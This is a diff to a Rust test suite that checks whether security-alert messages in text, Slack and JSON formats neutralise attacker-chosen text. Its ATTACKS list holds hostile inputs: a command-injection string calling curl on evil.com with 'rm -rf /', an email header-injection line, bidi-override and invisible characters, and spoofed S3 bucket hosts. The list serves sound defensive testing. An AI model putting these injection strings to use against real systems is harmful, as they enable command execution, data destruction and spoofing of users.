@@ -12,7 +12,7 @@
 
 mod support;
 
-use std::sync::Arc;
+use std::sync::{Arc, LazyLock};
 
 use insta::assert_snapshot;
 use jsonschema::Validator;
@@ -82,12 +82,12 @@ fn shown(format: Format) -> String {
     bodies.collect::<Vec<_>>().join("\n")
 }
 
-fn schema() -> Validator {
+static SCHEMA: LazyLock<Validator> = LazyLock::new(|| {
     let mut schema: Value = serde_json::from_str(include_str!("../docs/event.schema.json")).expect("JSON");
     // Subscribers must take fields that are new to them; here, none may be missing from the schema.
     schema["unevaluatedProperties"] = json!(false);
     jsonschema::validator_for(&schema).expect("a schema")
-}
+});
 
 #[test]
 fn chat_gets_custom_notifications() {
@@ -458,8 +458,8 @@ fn later_alerts_of_a_case_are_told_from_repetitions() {
     assert!(id(u64::MAX).1.len() <= 128);
 }
 
-/// What an attacker writes where the text is his to choose.
-const ATTACKS: [&str; 12] = [
+/// What an attacker writes in a text that a caller chooses.
+const ATTACKS: [&str; 22] = [
     "\r\nBcc: all@example.com",
     "\u{202e}evil\u{2066}\u{200b}",
     "https://evil.example/login",
@@ -472,11 +472,43 @@ const ATTACKS: [&str; 12] = [
     "&lt;!here&gt; | # heading",
     "$(curl evil.com) `id` ; rm -rf / 'x' \"y\"",
     "\u{e0041}\u{ad}\u{fffe}",
+    "s3.amazonaws.com/evil-bucket/login",
+    "x@s3.amazonaws.com.cn?evil s3.amazonaws.com:443#evil",
+    "\u{34f}\u{115f}\u{1160}\u{3164}\u{ffa0}\u{2800}\u{180b}\u{180f}\u{17b4}\u{17b5}",
+    "or\u{fe00}d\u{fe0f}e\u{e0100}r\u{e01ef}s\u{fdd0}\u{fdef}\u{ffff}\u{10ffff}",
+    "\u{5d0}\u{5d1} 7 \u{5d2}, \u{627}/\u{628} (\u{661}-\u{662})",
+    "\u{2067}\u{710}\u{2069}\u{780}\u{7c0}\u{fb1d}\u{fe70}\u{10800}\u{1e900}",
+    ":white_check_mark: :+1::tada: a:b:c :100:",
+    "arn:aws:smile:tada:heart:x",
+    "\u{1f980}.ws",
+    " \t",
+];
+
+/// Characters and words that attacks are made of, to be put together at random.
+const PARTS: [&str; 17] = [
+    ":",
+    ".",
+    "/",
+    "//",
+    "@",
+    " ",
+    "-",
+    "_",
+    "\u{5d0}",
+    "\u{628}",
+    "\u{661}",
+    "7",
+    "s3",
+    "amazonaws",
+    "com",
+    "arn:aws:",
+    "\u{fe0f}",
 ];
 
 fn hostile() -> impl Strategy<Value = String> {
     let attack = prop::sample::select(ATTACKS.to_vec()).prop_map(str::to_owned);
-    let part = prop_oneof![attack, "[a-z]{1,8}", "\\PC{0,20}", any::<String>()];
+    let parts = prop::collection::vec(prop::sample::select(PARTS.to_vec()), 1..12).prop_map(|parts| parts.concat());
+    let part = prop_oneof![attack, parts, "[a-z]{1,8}", "\\PC{0,20}", any::<String>()];
     prop::collection::vec(part, 1..5).prop_map(|parts| parts.concat())
 }
 
@@ -504,13 +536,13 @@ fn with(texts: &[String; 6]) -> Vec<Value> {
     vec![disabled, changed, watched, denial]
 }
 
-fn assert_all_fit(incidents: &[Incident], schema: &Validator) {
+fn assert_all_fit(incidents: &[Incident]) {
     for incident in incidents {
-        assert_fit(incident, schema);
+        assert_fit(incident);
     }
 }
 
-fn assert_fit(incident: &Incident, schema: &Validator) {
+fn assert_fit(incident: &Incident) {
     let alert = Alert::of(incident);
     for format in FORMATS {
         let message = alert.message(format);
@@ -522,22 +554,86 @@ fn assert_fit(incident: &Incident, schema: &Validator) {
             assert!(!attribute.values.is_empty() && attribute.values.len() <= 10);
             assert!(attribute.values.iter().all(|it| !it.is_empty() && !it.contains(is_hidden)), "{attribute:?}");
         }
-        assert!(message.group_id.len() <= 128 && !message.group_id.is_empty());
+        for id in [&message.group_id, &message.deduplication_id] {
+            let is_plain = id.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'-');
+            assert!(!id.is_empty() && id.len() <= 128 && is_plain, "{id}");
+        }
         match format {
             Format::Text => assert_text(&message.body),
             Format::Chat => assert_chat(&message.body),
-            Format::Json => assert_json(&message.body, schema),
+            Format::Json => assert_json(&message.body),
         }
     }
 }
 
 fn is_hidden(c: char) -> bool {
     c.is_control()
-        || matches!(c, '\u{ad}' | '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2066}'..='\u{2069}'
-                                  | '\u{e0001}'..='\u{e007f}' | '\u{feff}')
+        || u32::from(c) % 0x1_0000 >= 0xfffe
+        || matches!(c, '\u{ad}' | '\u{34f}' | '\u{115f}' | '\u{1160}' | '\u{17b4}' | '\u{17b5}' | '\u{180b}'..='\u{180f}'
+                       | '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2060}'..='\u{206f}' | '\u{2800}'
+                       | '\u{3164}' | '\u{fdd0}'..='\u{fdef}' | '\u{fe00}'..='\u{fe0f}' | '\u{feff}' | '\u{ffa0}'
+                       | '\u{e0001}'..='\u{e007f}' | '\u{e0100}'..='\u{e01ef}')
+}
+
+/// The text without its isolates, after a check that these are all there is of right-to-left text.
+fn assert_directions(text: &str) -> String {
+    let is_right_to_left = |c: char| {
+        matches!(c, '\u{590}'..='\u{8ff}' | '\u{fb1d}'..='\u{fdff}' | '\u{fe70}'..='\u{fefe}'
+                    | '\u{10800}'..='\u{10fff}' | '\u{1e800}'..='\u{1efff}')
+    };
+    let mut is_isolated = false;
+    for c in text.chars() {
+        match c {
+            '\u{2068}' | '\u{2069}' => {
+                assert_eq!(is_isolated, c == '\u{2069}', "nested or open: {text:?}");
+                is_isolated = !is_isolated;
+            }
+            '\n' => assert!(!is_isolated, "open at the end of a line: {text:?}"),
+            // Letters of other scripts within an isolate would be reordered.
+            c if is_isolated => assert!(is_right_to_left(c) || !c.is_alphabetic(), "{c:?} in {text:?}"),
+            c => assert!(!is_right_to_left(c), "{c:?} in {text:?}"),
+        }
+    }
+    assert!(!is_isolated, "open: {text:?}");
+    text.replace(['\u{2068}', '\u{2069}'], "")
+}
+
+/// No page that anybody can publish, and no mail address, ends in the domain of AWS.
+fn assert_no_page_of_aws(text: &str) {
+    for domain in ["amazonaws.com", "amazonaws.com.cn"] {
+        for (at, _) in text.match_indices(domain) {
+            let (before, after) = (&text[..at], &text[at + domain.len()..]);
+            let is_longer = |c: char| c.is_alphanumeric() || c == '-';
+            if after.starts_with(is_longer) || after.strip_prefix('.').is_some_and(|it| it.starts_with(is_longer)) {
+                continue;
+            }
+            let host = before.rsplit(|c: char| !c.is_alphanumeric() && c != '.' && c != '-').next().unwrap_or_default();
+            let is_address = before[..before.len() - host.len()].ends_with(['@', '/']);
+            assert!(!is_address && !after.starts_with(['/', ':', '?', '#', '@']), "{text}");
+            assert!(host.trim_end_matches('.').matches('.').count() == 0, "{text}");
+        }
+    }
+}
+
+/// Slack draws no emoji, but for parts of ARNs, which readers copy.
+fn assert_no_emoji(text: &str) {
+    let is_arn = |c: char| c.is_ascii_alphanumeric() || "-_.:/+=,".contains(c);
+    let is_name = |c: char| c.is_alphanumeric() || "_+'-".contains(c);
+    for (at, _) in text.match_indices(':') {
+        let Some((name, _)) = text[at + 1..].split_once(':') else { continue };
+        if name.is_empty() || !name.contains(|c: char| !c.is_ascii_digit()) || !name.chars().all(is_name) {
+            assert!(!["100", "1234"].contains(&name), "{text}");
+            continue;
+        }
+        let word = text[..at].rsplit(|c| !is_arn(c)).next().unwrap_or_default();
+        let is_address = format!("{word}:{name}").chars().all(|c| c == ':' || c.is_ascii_hexdigit());
+        assert!(word.starts_with("arn:") || word == "arn" || is_address, "{name} in {text}");
+    }
 }
 
 fn assert_text(body: &str) {
+    let body = &assert_directions(body);
+    assert_no_page_of_aws(body);
     assert!(!body.contains(|c| c != '\n' && is_hidden(c)), "{body:?}");
     // Nothing of a record begins a line.
     let headings = ["Why", "What to do", "Details", ""];
@@ -545,10 +641,10 @@ fn assert_text(body: &str) {
         let is_ours = number < 5 || headings.contains(&line) || line.starts_with("  ");
         assert!(is_ours, "{line:?} in {body}");
     }
-    // A session may well be named `https:`; what makes it a link are the slashes.
-    assert!(!body.replace("s3://", "").contains("://"), "{body}");
+    // A session may well be named `https:`; the slashes make it a link.
+    assert!(!body.replace("s3://", "s3 ").contains("://"), "{body}");
     for host in ["evil.com", "evil.example", "@example.com"] {
-        // What goes on behind it has no top-level domain.
+        // A longer word is no top-level domain.
         let goes_on = |at: usize| body[at + host.len()..].starts_with(|c: char| c.is_alphanumeric() || c == '-');
         assert!(body.match_indices(host).all(|(at, _)| goes_on(at)), "{body}");
     }
@@ -561,9 +657,11 @@ fn assert_chat(body: &str) {
     assert!(!description.is_empty() && description.chars().count() <= 3_010);
     let context = chat["metadata"]["additionalContext"].as_object().expect("an object");
     let texts = context.values().chain([&chat["content"]["title"], &chat["content"]["description"]]);
-    for text in texts.map(|it| it.as_str().expect("a text")) {
+    for text in texts.map(|it| assert_directions(it.as_str().expect("a text"))) {
+        assert_no_page_of_aws(&text);
+        assert_no_emoji(&text);
         assert!(!text.contains(['<', '>', '`', '*', '~', '@', '[', ']', '|', '&', '#', '\\']), "{text}");
-        assert!(!text.replace("s3://", "").contains("://"), "{text}");
+        assert!(!text.replace("s3://", "s3 ").contains("://"), "{text}");
         assert!(!text.contains(|c| c != '\n' && is_hidden(c)), "{text:?}");
     }
     for step in chat["content"]["nextSteps"].as_array().expect("a list") {
@@ -571,9 +669,10 @@ fn assert_chat(body: &str) {
     }
 }
 
-fn assert_json(body: &str, schema: &Validator) {
+fn assert_json(body: &str) {
+    assert!(!body.contains(is_hidden), "{body}");
     let json: Value = serde_json::from_str(body).expect("JSON");
-    let problems: Vec<_> = schema.iter_errors(&json).map(|error| error.to_string()).collect();
+    let problems: Vec<_> = SCHEMA.iter_errors(&json).map(|error| error.to_string()).collect();
     assert_eq!(problems, [""; 0], "{json:#}");
     let texts = json.as_object().expect("an object").values().flat_map(|it| match it {
         Value::Array(values) => values.iter().filter_map(Value::as_str).collect(),
@@ -584,20 +683,19 @@ fn assert_json(body: &str, schema: &Validator) {
 
 #[test]
 fn every_kind_fits_its_format() {
-    let schema = schema();
-    assert_all_fit(&every_kind(), &schema);
+    assert_all_fit(&every_kind());
     for attack in ATTACKS {
         let texts = [(); 6].map(|()| attack.to_owned());
-        assert_all_fit(&incidents(&with(&texts)), &schema);
+        assert_all_fit(&incidents(&with(&texts)));
     }
 }
 
 #[test]
 fn the_largest_alerts_are_within_the_limits() {
-    let schema = schema();
-    // Four bytes each in UTF-8; a quote is two in JSON, and four in the JSON of a list in an attribute.
-    for filler in ["🦀", "\"", "\\", "\u{202e}"] {
-        let texts = [(); 6].map(|()| filler.repeat(20_000));
+    // A crab has four bytes in UTF-8; a quote has two in JSON, and four in the JSON of a list in an attribute; isolates
+    // add six to a character; a letter may be a word of a command.
+    for filler in ["🦀", "\"", "\\", "\u{202e}", "\u{1e900}-", "x", "x.co/", ":x"] {
+        let texts = [(); 6].map(|()| filler.repeat(100_000 / filler.len()));
         let mut records = with(&texts);
         let one = records.remove(3);
         for n in 0..30 {
@@ -608,7 +706,7 @@ fn the_largest_alerts_are_within_the_limits() {
             records.push(another);
         }
         let mut incidents = incidents(&records);
-        assert_all_fit(&incidents, &schema);
+        assert_all_fit(&incidents);
         let json = Alert::of(denial(&mut incidents)).message(Format::Json).body;
         let json: Value = serde_json::from_str(&json).expect("JSON");
         let cut: Vec<_> = json["cut"].as_array().expect("a list").iter().filter_map(Value::as_str).collect();
@@ -617,11 +715,8 @@ fn the_largest_alerts_are_within_the_limits() {
 }
 
 proptest! {
-    #![proptest_config(ProptestConfig { cases: 300, ..ProptestConfig::default() })]
-
     #[test]
     fn hostile_texts_are_neutralised(texts in prop::array::uniform6(hostile())) {
-        let schema = schema();
-        assert_all_fit(&incidents(&with(&texts)), &schema);
+        assert_all_fit(&incidents(&with(&texts)));
     }
 }
